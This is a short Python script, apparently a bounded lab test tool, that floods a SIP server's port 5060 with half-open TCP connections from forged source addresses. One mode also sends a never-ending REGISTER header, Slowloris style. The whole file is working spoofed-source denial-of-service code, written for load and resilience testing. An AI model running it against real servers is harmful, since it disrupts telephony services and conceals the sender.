#!/usr/bin/env python3
"""Half-open SIP/TCP connections (issue 13): COUNT connection attempts to
DST:5060 written with a raw socket from forged sources 203.0.113.150-199
(addresses nobody in the lab holds, so the SYN/ACKs go unanswered), each
with its own source port. MODE syn sends only the SYN; MODE loris also
sends the start of a REGISTER whose head never ends. Only for the lab
namespaces. Bounded: at most 20,000 connections and 20 s. Prints how many
were opened.

  half_open.py DST COUNT MODE
"""
import socket
import struct
import sys
import time

dst, count, mode = sys.argv[1], min(int(sys.argv[2]), 20_000), sys.argv[3]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def segment(src, sport, seq, flags, payload=b""):
    tcp = struct.pack("!HHIIBBHHH", sport, 5060, seq, 0, 5 << 4, flags, 65535, 0, 0) + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    c = csum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), sport, 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + tcp


head = b"REGISTER sip:pbx.test SIP/2.0\r\nX-Pad: " + b"a" * 600
opened = 0
end = time.time() + 20
for i in range(count):
    if time.time() > end:
        break
    src = f"203.0.113.{150 + i % 50}"
    sport = 20000 + i // 50
    try:
        raw.sendto(segment(src, sport, 1000, 0x02), (dst, 0))
        if mode == "loris":
            raw.sendto(segment(src, sport, 1001, 0x18, head), (dst, 0))
    except OSError:
        time.sleep(0.001)
        continue
    opened += 1
    if i % 500 == 499:
        time.sleep(0.05)  # paced: about 10,000 a second at most
print(opened)
